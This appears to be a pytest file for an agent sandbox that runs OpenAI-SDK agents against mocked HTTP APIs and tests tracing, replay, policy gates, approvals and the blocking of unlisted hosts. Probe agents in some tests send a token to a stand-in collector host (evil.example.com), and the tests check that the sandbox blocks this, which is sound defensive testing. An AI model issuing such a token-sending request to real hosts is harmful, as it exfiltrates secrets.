"""Issue 8: python agents built on httpx SDKs (the official openai SDK) run unmodified.

Their chat-completions calls become traced ``llm`` steps answered by the run's model,
their API calls are answered by the sandbox's HTTP mocks through the policy gate, and
every other request is blocked (or passed through when ``agent.allow_hosts`` says so).
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest
import yaml

from agentbox.agents.context import ToolResult
from agentbox.approvals import fixed_approver
from agentbox.cassette import rebuild_requests
from agentbox.config import Settings
from agentbox.errors import SandboxError, ToolError
from agentbox.http import (
    DUMMY_OPENAI_KEY,
    chat_completion,
    chat_completion_chunks,
    http_mock,
    load_http_mocks,
    response_for,
)
from agentbox.lifecycle import replay_run, resume_run
from agentbox.models import ModelResponse, ToolCall
from agentbox.planning import RunOptions, RunPlan, plan_from_scenario, plan_run
from agentbox.policy import Policy
from agentbox.runner import Runner, RunResult
from agentbox.scenario import AgentSpec, PolicySpec, Rule, Scenario, parse_scenario
from agentbox.store import StepRow, TraceStore

ROOT = Path(__file__).resolve().parent.parent
SCENARIO = ROOT / "scenarios" / "openai-sdk-agent.yaml"
SNAPSHOT = ROOT / "scenarios" / "snapshots" / "retail-prod-2026-11-20.json"
GET_ORDER = "http GET api.northwind.test/orders/{order_id}"
POST_REFUND = "http POST api.northwind.test/orders/{order_id}/refunds"


@pytest.fixture(autouse=True)
def _no_openai_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "NORTHWIND_API", "REFUND_AGENT_MODEL"):
        monkeypatch.delenv(name, raising=False)


def run(plan: RunPlan, store: TraceStore) -> tuple[RunResult, list[StepRow]]:
    result = Runner(plan, store).run()
    return result, store.steps(result.run_id)


def kinds(steps: list[StepRow]) -> list[tuple[str, str | None, str]]:
    return [(s.kind, s.name, s.status) for s in steps]


def with_agent(plan: RunPlan, **changes: Any) -> RunPlan:
    """The plan with agent fields changed (``allow_hosts`` before AgentSpec declares it)."""
    agent = plan.scenario.agent.model_copy(update=changes)
    plan.scenario = plan.scenario.model_copy(update={"agent": agent})
    return plan


@pytest.fixture()
def agent_scenario(tmp_path: Path, settings: Settings) -> Callable[..., RunPlan]:
    """Write an agent module and a scenario running it next to each other; plan it."""

    def make(
        code: str,
        *,
        mode: str = "execute",
        script: list[Any] | None = None,
        policy: dict[str, Any] | None = None,
    ) -> RunPlan:
        module = f"agent_{tmp_path.name}"
        (tmp_path / f"{module}.py").write_text(code, encoding="utf-8")
        data: dict[str, Any] = {
            "name": "http-probe",
            "sandbox": "retail",
            "mode": mode,
            "agent": {"type": "python", "entry": f"{module}:run", "model": "scripted"},
            "input": "probe",
            "script": script or [{"say": "ok"}],
        }
        if mode == "shadow":
            data["state"] = str(SNAPSHOT)
        if policy:
            data["policy"] = policy
        path = tmp_path / "probe.yaml"
        path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
        return plan_run(path, settings)

    return make


# ---- the openai SDK agent end to end ------------------------------------------------
def test_openai_sdk_agent_runs_unmodified(settings: Settings, store: TraceStore) -> None:
    result, steps = run(plan_run(SCENARIO, settings), store)

    assert result.status == "completed" and result.passed, result.expectations
    assert result.output == "Done: I refunded $64.50 for ord_5120 to your original payment method."
    assert kinds(steps) == [
        ("llm", "scripted", "ok"),
        ("tool", GET_ORDER, "ok"),
        ("llm", "scripted", "ok"),
        ("tool", POST_REFUND, "ok"),
        ("llm", "scripted", "ok"),
        ("final", "completed", "completed"),
    ]
    # model steps: the SDK's own conversation and tool schemas, our tool calls and tokens
    llm = [s for s in steps if s.kind == "llm"]
    requests = rebuild_requests(steps)
    system, user = requests[0]
    assert system["role"] == "system" and system["content"].startswith("You are a Northwind")
    assert user == {"role": "user", "content": SCENARIO_INPUT}
    assert llm[0].data["request"]["tools"] == ["get_order", "refund_order"]
    assert llm[0].data["response"]["tool_calls"] == [
        {"id": "call_0_0", "name": "get_order", "arguments": {"order_id": "ord_5120"}}
    ]
    assert requests[1][2]["tool_calls"][0]["id"] == "call_0_0"
    tool_msg = requests[1][3]
    assert tool_msg["role"] == "tool" and tool_msg["tool_call_id"] == "call_0_0"
    seen = json.loads(tool_msg["content"])
    assert seen["http_status"] == 200 and seen["result"]["status"] == "delivered"
    refund_seen = json.loads(requests[2][5]["content"])
    assert refund_seen["http_status"] == 201 and refund_seen["result"]["status"] == "pending"
    for step in llm:
        assert step.input_tokens > 0 and step.output_tokens > 0
        assert step.data["response"]["input_tokens"] == step.input_tokens
    assert result.counters.model_calls == 3
    assert result.counters.input_tokens == sum(s.input_tokens for s in llm)
    # tool steps: validated arguments (path params + JSON body), decision, HTTP result
    get, post = (s for s in steps if s.kind == "tool")
    assert get.data["args"] == {"order_id": "ord_5120"} and get.data["effect"] == "read"
    assert post.data["args"] == {
        "order_id": "ord_5120",
        "amount_usd": 64.5,
        "idempotency_key": "r-5120",
        "reason": "Wrong size received",
    }
    assert post.data["effect"] == "write" and post.data["decision"]["verdict"] == "allow"
    assert json.loads(post.data["result"])["status"] == 201
    assert post.patch and post.patch[0]["path"].startswith("/refunds/")
    assert [(c, k) for c, k, _, _ in result.changes] == [("refunds", "ref_0001")]
    assert "OPENAI_API_KEY" not in os.environ  # the placeholder key was removed again


SCENARIO_INPUT = "Hi, I'm cus_1007. Order ord_5120 came in the wrong size; please refund it."


def test_replay_from_the_cassette_is_identical(settings: Settings, store: TraceStore) -> None:
    recorded, _ = run(plan_run(SCENARIO, settings), store)
    replay = replay_run(store, recorded.run_id, settings)
    assert replay.identical, replay.differences
    assert replay.result.output == recorded.output


def test_a_cassette_miss_fails_the_run_once_without_sdk_retries(
    settings: Settings, store: TraceStore
) -> None:
    recorded, _ = run(plan_run(SCENARIO, settings), store)

    def other_input(scenario: Scenario) -> Scenario:
        return scenario.model_copy(update={"input": "Refund ord_5531 instead."})

    replay = replay_run(store, recorded.run_id, settings, scenario_override=other_input)
    steps = store.steps(replay.result.run_id)
    assert replay.result.status == "failed"
    assert [s.kind for s in steps] == ["error", "final"]  # one miss, not an SDK retry loop
    assert (
        steps[0].name == "ModelError" and "cassette miss at model call 0" in steps[0].data["error"]
    )


def test_async_openai_client_and_async_httpx(settings: Settings, store: TraceStore) -> None:
    plan = with_agent(plan_run(SCENARIO, settings), entry="agents/openai_refund_agent.py:run_async")
    result, steps = run(plan, store)
    assert result.status == "completed" and result.passed, result.expectations
    assert [s.name for s in steps if s.kind == "tool"] == [GET_ORDER, POST_REFUND]


# ---- modes and the gate -------------------------------------------------------------
def test_recommend_mode_does_not_perform_an_http_write(
    settings: Settings, store: TraceStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    mock = next(m for m in load_http_mocks(ROOT / "sandboxes" / "retail") if m.name == POST_REFUND)
    calls: list[dict[str, Any]] = []
    real = mock.handler
    assert real is not None

    def counting(state: Any, request: httpx.Request, **args: Any) -> Any:
        calls.append(args)
        return real(state, request, **args)

    monkeypatch.setattr(mock, "handler", counting)
    executed, _ = run(plan_run(SCENARIO, settings), store)
    assert executed.status == "completed" and len(calls) == 1  # the counter works

    calls.clear()
    result, steps = run(plan_run(SCENARIO, settings, RunOptions(mode="recommend")), store)
    assert calls == []  # the handler was never called
    post = next(s for s in steps if s.name == POST_REFUND)
    assert post.status == "recommended" and post.data["args"]["amount_usd"] == 64.5
    assert result.recommendations == [
        {"tool": POST_REFUND, "args": post.data["args"], "decision": post.data["decision"]}
    ]
    assert result.changes == []  # state untouched
    seen = json.loads(rebuild_requests(steps)[2][5]["content"])
    assert seen["http_status"] == 202
    assert seen["result"]["status"] == "recorded" and seen["result"]["performed"] is False


PROBE_AGENT = """
import httpx

def run(ctx):
    out = []
    with httpx.Client(timeout=5) as http:
        r = http.post("https://api.northwind.test/orders/ord_5120/refunds",
                      json={"amount_usd": 10, "idempotency_key": "r-5120"})
        out.append([r.status_code, r.json()["status"] if r.is_success else r.json()])
        r = http.get("https://evil.example.com/collect?token=s3cret")
        out.append([r.status_code, r.json()["error"]["message"]])
        r = http.get("https://api.northwind.test/orders/ord_5120")
        out.append([r.status_code, r.json()["refunded_usd"]])
    return out
"""


def test_shadow_mode_blocks_unknown_hosts_and_writes_to_the_overlay(
    agent_scenario: Callable[..., RunPlan], store: TraceStore
) -> None:
    before = SNAPSHOT.read_bytes()
    result, steps = run(agent_scenario(PROBE_AGENT, mode="shadow"), store)
    assert result.status == "completed", result.reason
    (post_status, refund_status), (blocked_status, message), (get_status, refunded) = json.loads(
        result.output or ""
    )
    assert (post_status, refund_status) == (201, "pending")
    assert blocked_status == 403 and "evil.example.com" in message and "shadow" in message
    assert (get_status, refunded) == (200, 10)  # a later read sees the overlay
    blocked = next(s for s in steps if s.status == "blocked")
    assert (blocked.kind, blocked.name) == ("tool", "http")
    assert blocked.data["host"] == "evil.example.com"
    assert blocked.data["method"] == "GET"
    assert blocked.data["url"] == "https://evil.example.com/collect"  # query values not stored
    assert blocked.data["query_keys"] == ["token"]
    assert "allow_hosts" in blocked.data["reason"]
    assert result.counters.blocks == 1
    assert SNAPSHOT.read_bytes() == before  # the snapshot is never touched
    assert [(c, k) for c, k, _, _ in result.changes] == [("refunds", "ref_0001")]


def test_execute_mode_blocks_unlisted_hosts_too(
    agent_scenario: Callable[..., RunPlan], store: TraceStore
) -> None:
    result, steps = run(agent_scenario(PROBE_AGENT), store)
    assert json.loads(result.output or "")[1][0] == 403
    assert [s.data["host"] for s in steps if s.status == "blocked"] == ["evil.example.com"]


def test_policy_rules_gate_http_writes(settings: Settings, store: TraceStore) -> None:
    plan = plan_run(SCENARIO, settings)
    mocks = {m.name: m.spec for m in load_http_mocks(plan.sandbox.path)}
    # TODO(planning): Policy(scenario.policy, {**sandbox.tools, **http mock tools}) so such
    # rules can be written in the scenario; here the policy is built the same way by hand.
    spec = PolicySpec(
        rules=[
            Rule(name="refunds-reviewed", tool="http POST *", when="amount_usd > 50", tier="yellow")
        ]
    )
    plan.policy = Policy(spec, {**plan.sandbox.tools, **mocks})
    plan.approvals = plan.approvals.model_copy(update={"handler": "deny"})
    result, steps = run(plan, store)
    assert [(s.kind, s.status) for s in steps if s.name == POST_REFUND] == [
        ("approval", "denied"),
        ("tool", "denied"),
    ]
    assert result.changes == []
    seen = json.loads(rebuild_requests(steps)[2][5]["content"])
    assert seen["http_status"] == 403 and "denied by approver" in seen["result"]["error"]["message"]


def test_a_budget_halt_inside_a_request_halts_the_run(
    settings: Settings, store: TraceStore
) -> None:
    plan = plan_run(SCENARIO, settings)
    plan.budgets = plan.budgets.model_copy(update={"max_tool_calls": 1})
    result, steps = run(plan, store)
    assert result.status == "halted" and "tool-call budget" in (result.reason or "")
    assert [s.kind for s in steps][-2:] == ["policy", "final"]


# ---- pass-through to an allowed host ------------------------------------------------
class _FakeOpenAI(BaseHTTPRequestHandler):
    """A stdlib OpenAI-compatible server playing the same three turns."""

    disable_nagle_algorithm = True
    protocol_version = "HTTP/1.1"
    seen: ClassVar[list[dict[str, Any]]] = []
    turns: ClassVar[list[dict[str, Any]]] = [
        {
            "tool_calls": [
                {
                    "id": "srv_1",
                    "type": "function",
                    "function": {"name": "get_order", "arguments": '{"order_id": "ord_5120"}'},
                }
            ]
        },
        {
            "tool_calls": [
                {
                    "id": "srv_2",
                    "type": "function",
                    "function": {
                        "name": "refund_order",
                        "arguments": '{"order_id": "ord_5120", "amount_usd": 64.5, "idempotency_key": "r-5120"}',
                    },
                }
            ]
        },
        {"content": "Refunded $64.50 for ord_5120 (served by the local model)."},
    ]

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        type(self).seen.append(
            {"path": self.path, "body": body, "auth": self.headers.get("Authorization")}
        )
        turn = self.turns[min(len(self.seen) - 1, len(self.turns) - 1)]
        message = {"role": "assistant", "content": turn.get("content")}
        if "tool_calls" in turn:
            message["tool_calls"] = turn["tool_calls"]
        payload = json.dumps(
            {
                "id": f"srv-{len(self.seen)}",
                "object": "chat.completion",
                "created": 1,
                "model": "local-model",
                "choices": [
                    {
                        "index": 0,
                        "message": message,
                        "finish_reason": "tool_calls" if "tool_calls" in turn else "stop",
                    }
                ],
                "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10},
            }
        ).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture()
def local_model() -> Iterator[str]:
    _FakeOpenAI.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _FakeOpenAI)
    server.daemon_threads = True
    server.request_queue_size = 64
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True
    )
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def test_allowed_host_passes_through_for_real(
    settings: Settings, store: TraceStore, local_model: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", local_model)
    plan = with_agent(plan_run(SCENARIO, settings), allow_hosts=["127.0.0.1"])
    result, steps = run(plan, store)
    assert result.status == "completed", result.reason
    assert result.output == "Refunded $64.50 for ord_5120 (served by the local model)."
    assert [s["path"] for s in _FakeOpenAI.seen] == ["/v1/chat/completions"] * 3
    assert _FakeOpenAI.seen[0]["body"]["messages"][1]["content"] == SCENARIO_INPUT
    assert _FakeOpenAI.seen[0]["auth"] == f"Bearer {DUMMY_OPENAI_KEY}"
    assert [s.kind for s in steps if s.kind == "llm"] == []  # not our model
    assert [s.name for s in steps if s.kind == "tool"] == [GET_ORDER, POST_REFUND]  # still mocked


def test_without_allow_hosts_the_local_server_is_never_contacted(
    settings: Settings, store: TraceStore, local_model: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", local_model)
    result, steps = run(plan_run(SCENARIO, settings), store)
    assert result.status == "completed" and _FakeOpenAI.seen == []
    assert len([s for s in steps if s.kind == "llm"]) == 3  # answered by the scripted model


def scenario_with(**changes: Any) -> Scenario:
    """The openai-sdk-agent scenario with top-level or ``agent`` fields changed (validated)."""
    data = yaml.safe_load(SCENARIO.read_text(encoding="utf-8"))
    data["agent"].update(changes.pop("agent", {}))
    data.update(changes)
    return parse_scenario(data, SCENARIO, {})


@pytest.mark.skipif(
    "allow_hosts" not in AgentSpec.model_fields,
    reason="needs the AgentSpec.allow_hosts field (scenario.py)",
)
def test_allow_hosts_in_the_scenario_file(
    settings: Settings, store: TraceStore, local_model: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", local_model)
    scenario = scenario_with(agent={"allow_hosts": ["127.0.0.1"]})
    result, _ = run(plan_from_scenario(scenario, settings), store)
    assert result.status == "completed" and len(_FakeOpenAI.seen) == 3


@pytest.mark.skipif(
    not hasattr(RunPlan, "tool"), reason="needs RunPlan.extra_tools / RunPlan.tool (planning.py)"
)
def test_scenario_rules_hold_http_writes_and_resume_after_an_edited_approval(
    settings: Settings, store: TraceStore
) -> None:
    rule = {"name": "refunds-reviewed", "tool": "http POST *", "when": "amount_usd > 50"}
    scenario = scenario_with(policy={"rules": [rule]}, approvals="wait")
    plan = plan_from_scenario(scenario, settings)
    parked = Runner(plan, store, approver=fixed_approver("park")).run()
    assert parked.status == "awaiting_approval" and parked.pending_approval
    row = store.get_approval(parked.pending_approval)
    assert row.tool == POST_REFUND and row.args["amount_usd"] == 64.5
    store.decide_approval(
        row.id, "approved", by="test", reason="half", edited_args={**row.args, "amount_usd": 32.25}
    )
    result = resume_run(store, parked.run_id, settings)
    assert result.status == "completed", result.reason
    steps = store.steps(parked.run_id)
    post = [s for s in steps if s.kind == "tool" and s.name == POST_REFUND]
    assert [(s.status, s.data["args"]["amount_usd"]) for s in post] == [("ok", 32.25)]
    assert [c[3]["amount_usd"] for c in result.changes] == [32.25]


# ---- the wire format ----------------------------------------------------------------
STREAM_AGENT = """
import json
from openai import OpenAI

def run(ctx):
    with OpenAI() as client:
        plain = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": ctx.input}])
        stream = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": ctx.input}],
            tools=[{"type": "function", "function": {"name": "get_order", "parameters": {}}}],
            stream=True, stream_options={"include_usage": True})
        chunks = list(stream)
    calls = [c for ch in chunks for choice in ch.choices for c in (choice.delta.tool_calls or [])]
    return {"id": plain.id, "created": plain.created, "model": plain.model,
            "content": plain.choices[0].message.content,
            "finish": plain.choices[0].finish_reason, "usage": plain.usage.model_dump(),
            "stream_calls": [[c.id, c.function.name, c.function.arguments] for c in calls],
            "stream_finish": [ch.choices[0].finish_reason for ch in chunks if ch.choices],
            "stream_usage": chunks[-1].usage.total_tokens}
"""


def test_sdk_sees_completions_usage_and_streams(
    agent_scenario: Callable[..., RunPlan], store: TraceStore
) -> None:
    script = [
        {"say": "Hello.", "usage": {"input_tokens": 11, "output_tokens": 3}},
        {
            "tool_calls": [{"get_order": {"order_id": "ord_5120"}}],
            "usage": {"input_tokens": 7, "output_tokens": 2},
        },
    ]
    result, steps = run(agent_scenario(STREAM_AGENT, script=script), store)
    assert result.status == "completed", result.reason
    out = json.loads(result.output or "")
    assert out["id"] == "chatcmpl-agentbox-0" and out["model"] == "scripted"
    assert out["content"] == "Hello." and out["finish"] == "stop"
    assert out["usage"] == {
        "prompt_tokens": 11,
        "completion_tokens": 3,
        "total_tokens": 14,
        "completion_tokens_details": None,
        "prompt_tokens_details": None,
    }
    assert out["stream_calls"] == [["call_1_0", "get_order", '{"order_id": "ord_5120"}']]
    assert out["stream_finish"] == [None, "tool_calls"] and out["stream_usage"] == 9
    llm = [s for s in steps if s.kind == "llm"]
    assert [(s.input_tokens, s.output_tokens) for s in llm] == [(11, 3), (7, 2)]
    assert llm[1].data["request"]["tools"] == ["get_order"]


def test_chat_completion_json_is_a_valid_openai_object() -> None:
    from openai.types.chat import ChatCompletion

    response = ModelResponse(
        text=None,
        reasoning="think",
        input_tokens=3,
        output_tokens=4,
        tool_calls=[ToolCall("call_1", "get_order", {"order_id": "o1"})],
        model="m",
    )
    body = chat_completion(response, "gpt-x", 7)
    parsed = ChatCompletion.model_validate(body)
    assert parsed.id == "chatcmpl-agentbox-7" and parsed.model == "m"
    assert parsed.choices[0].finish_reason == "tool_calls"
    call = parsed.choices[0].message.tool_calls[0]  # type: ignore[index]
    assert (call.id, call.function.name, json.loads(call.function.arguments)) == (  # type: ignore[union-attr]
        "call_1",
        "get_order",
        {"order_id": "o1"},
    )
    assert parsed.usage is not None and parsed.usage.total_tokens == 7
    sse = chat_completion_chunks(ModelResponse(text="hi", model="m"), "gpt-x", 0, True).decode()
    assert sse.endswith("data: [DONE]\n\n") and sse.count("data: ") == 4


def test_mock_matching_arguments_and_responses() -> None:
    @http_mock("POST", "https://api.shop.test:8443/items/{item_id}/notes/")
    def note(state: Any, request: httpx.Request, item_id: str, text: str) -> Any:
        if text == "boom":
            raise ToolError("refused")
        return 201, {"item": item_id, "text": text}

    req = httpx.Request(
        "POST", "https://api.shop.test:8443/items/a%20b/notes?x=1", json={"text": "t"}
    )
    assert note.match(req) == {"item_id": "a b"}
    assert note.arguments(req, {"item_id": "a b"}) == {"x": "1", "text": "t", "item_id": "a b"}
    assert note.name == "http POST api.shop.test:8443/items/{item_id}/notes/"
    assert note.effect == "write"
    for other in (
        "https://api.shop.test/items/1/notes",
        "http://api.shop.test:8443/items/1/notes",
        "https://api.shop.test:8443/items/1/notes/extra",
    ):
        assert note.match(httpx.Request("POST", other)) is None
    assert note.match(httpx.Request("GET", "https://api.shop.test:8443/items/1/notes")) is None
    assert note.spec.validate({"item_id": "1", "text": "t", "x": "1"})[0] is None  # unknown arg
    assert note.spec.fn(None, item_id="1", text="t") == {
        "status": 201,
        "body": {"item": "1", "text": "t"},
    }

    canned = http_mock("GET", "https://api.shop.test/health", json={"ok": True})
    assert canned.effect == "read" and canned.spec.fn(None) == {"status": 200, "body": {"ok": True}}
    with pytest.raises(TypeError, match=r"\(state, request\)"):
        http_mock("GET", "https://x.test/a")(lambda request, state: None)

    ok = response_for(ToolResult("ok", "", {"status": 201, "body": {"a": 1}}))
    assert (ok.status_code, ok.json()) == (201, {"a": 1})
    err = response_for(ToolResult("error", 'Error: HTTP 404: {"error": "order x not found"}'))
    assert (err.status_code, err.json()) == (404, {"error": "order x not found"})
    assert response_for(ToolResult("error", "Error: refused")).status_code == 400
    assert response_for(ToolResult("recommended", "Recorded ...")).status_code == 202
    assert response_for(ToolResult("blocked", "Error: blocked by policy")).status_code == 403
    assert response_for(ToolResult("invalid", "Error: invalid call")).status_code == 400


MODULE_CLIENT_AGENT = """
from openai import OpenAI

client = OpenAI()  # created at import, before the run starts


def run(ctx):
    reply = client.chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": ctx.input}])
    return reply.choices[0].message.content
"""


def test_a_module_level_client_works_without_an_api_key(
    agent_scenario: Callable[..., RunPlan], store: TraceStore
) -> None:
    result, steps = run(agent_scenario(MODULE_CLIENT_AGENT, script=[{"say": "hi"}]), store)
    assert result.status == "completed" and result.output == "hi"
    assert [s.kind for s in steps] == ["llm", "final"]
    assert "OPENAI_API_KEY" not in os.environ


# ---- httpx2 (openai 3.x, anthropic 2.x, mcp) is routed like httpx --------------------
HTTPX2_AGENT = """
import asyncio, json
import httpx2

def run(ctx):
    out = {}
    with httpx2.Client(timeout=5) as http:
        r = http.get("https://api.northwind.test/orders/ord_5120")
        out["mock"] = [r.status_code, r.json()["id"]]
        r = http.get("https://evil.example.com/collect")
        out["blocked"] = [r.status_code, r.json()["error"]["code"]]
        r = http.post("https://api.openai.com/v1/traces/ingest", json={"data": []})
        out["telemetry"] = r.status_code
        body = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "stream": True}
        with http.stream("POST", "https://api.openai.com/v1/chat/completions", json=body) as s:
            out["stream"] = [line for line in s.iter_lines() if line][-1]

    async def go():
        async with httpx2.AsyncClient(timeout=5) as http:
            r = await http.post("https://api.northwind.test/orders/ord_5120/refunds",
                                json={"amount_usd": 10, "idempotency_key": "r-5120"})
            return [r.status_code, r.json()["status"]]

    out["async_mock"] = asyncio.run(go())
    return out
"""


def test_httpx2_sync_async_and_streaming_are_routed_like_httpx(
    agent_scenario: Callable[..., RunPlan], store: TraceStore
) -> None:
    result, steps = run(agent_scenario(HTTPX2_AGENT, script=[{"say": "streamed"}]), store)
    assert result.status == "completed", result.reason
    out = json.loads(result.output or "")
    assert out["mock"] == [200, "ord_5120"]
    assert out["blocked"] == [403, "egress_blocked"]
    assert out["telemetry"] == 200  # answered locally: no step, no network
    assert out["stream"] == "data: [DONE]"
    assert out["async_mock"] == [201, "pending"]
    assert kinds(steps) == [
        ("tool", GET_ORDER, "ok"),
        ("tool", "http", "blocked"),
        ("llm", "scripted", "ok"),
        ("tool", POST_REFUND, "ok"),
        ("final", "completed", "completed"),
    ]


# ---- agent entries are files, so no installed package shadows them --------------------
def test_entries_load_by_file_path_even_with_an_installed_agents_package(
    settings: Settings, store: TraceStore
) -> None:
    import agents  # the OpenAI Agents SDK's top-level package (a dev dependency)

    assert not Path(agents.__file__).is_relative_to(ROOT / "scenarios")  # the SDK, not ours
    plan = plan_run(SCENARIO, settings)
    assert plan.scenario.agent.entry == "agents/openai_refund_agent.py:run"
    result, _ = run(plan, store)
    assert result.status == "completed" and result.passed, result.expectations
    # the older dotted form is tried as a file first, so it is not shadowed either
    dotted = with_agent(plan_run(SCENARIO, settings), entry="agents.openai_refund_agent:run")
    assert run(dotted, store)[0].passed


def test_an_entry_file_imports_its_siblings_and_a_missing_file_is_named(
    tmp_path: Path, settings: Settings, store: TraceStore
) -> None:
    folder = tmp_path / "agents"
    folder.mkdir()
    (folder / "helpers_for_entry_test.py").write_text("WORD = 'sibling'\n", encoding="utf-8")
    (folder / "bot.py").write_text(
        "from helpers_for_entry_test import WORD\n\ndef run(ctx):\n    return WORD\n",
        encoding="utf-8",
    )
    data = {
        "name": "entry-file",
        "sandbox": "retail",
        "agent": {"type": "python", "entry": "agents/bot.py:run", "model": "scripted"},
        "input": "x",
        "script": [{"say": "ok"}],
    }
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    result, _ = run(plan_run(path, settings), store)
    assert result.status == "completed" and result.output == "sibling"

    data["agent"]["entry"] = "agents/nope.py:run"  # type: ignore[index]
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(SandboxError, match=r"agents/nope\.py not found"):
        plan_run(path, settings)  # refused before a run, as by the CLI and agentbox.run

    (folder / "gone.py").write_text("def run(ctx):\n    return 'x'\n", encoding="utf-8")
    data["agent"]["entry"] = "agents/gone.py:run"  # type: ignore[index]
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    plan = plan_run(path, settings)
    (folder / "gone.py").unlink()  # gone after planning: the run fails, naming it
    result, steps = run(plan, store)
    assert result.status == "failed"
    assert "agents/gone.py not found" in steps[0].data["error"]
